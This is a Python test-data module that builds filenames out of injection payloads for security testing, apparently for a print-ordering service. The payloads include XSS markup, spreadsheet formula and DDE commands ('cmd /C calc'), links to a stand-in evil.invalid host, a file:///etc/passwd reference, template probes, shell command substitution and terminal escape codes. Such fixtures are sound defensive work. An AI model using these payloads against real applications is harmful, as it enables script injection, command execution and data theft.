"""Names that try to act: as HTML, script, formula, link, template, or commands of a terminal."""

import itertools

# What acts in a page; {} is where more is put.
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></table><script>1</script>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<iframe srcdoc='<script>1</script>'>",
    "<b>bold</b>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{display:none}</style>",
    "<!-- ",
    "-->",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid><input name=p>",
    "<meta http-equiv=refresh>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<object data=//evil.invalid>",
    "<math><a xlink:href=javascript:1>",
]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://evil.invalid","x")',
    '=WEBSERVICE("http://evil.invalid")',
    '=DDE("cmd";"/C calc")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '",=1+1,"',
    "{=1+1}",
    "http://evil.invalid/",
    "mailto:x@evil.invalid",
    "internal:'About'!A1",
    "file:///etc/passwd",
]
TEMPLATES = [
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "#{7*7}",
    "{0.__class__}",
    "%s%n",
    "$$x$$",
    "\\input{x}",
    "`id`",
    "$(id)",
]
TERMINAL = [
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.invalid\x1b\\x\x1b]8;;\x1b\\",
    "\x9b2J",
    "\x07",
    "\b\b\b",
    "\x00",
    "\u202egpj.exe",
    "\u2066x\u2069",
    "\u200b",
    "\ufeff",
    "a\nb",
    "a\rb",
    "a\u2028b",
    "a\x85b",
    "\x7f",
]
WRAPS = ["{}", "Print {}", "{} 10x15", " {}", "{}{}", "10x15 {} glossy", "'{}", "{}\u0301"]


def names(count):
    """Return so many different names, of every kind in turn."""
    kinds = [MARKUP, FORMULAS, TEMPLATES, TERMINAL]
    tried = itertools.chain.from_iterable(
        (wrap.replace("{}", text) for text in kind) for wrap in WRAPS for kind in kinds
    )
    found = list(dict.fromkeys(tried))
    step = max(1, len(found) // count)
    return found[::step][:count]
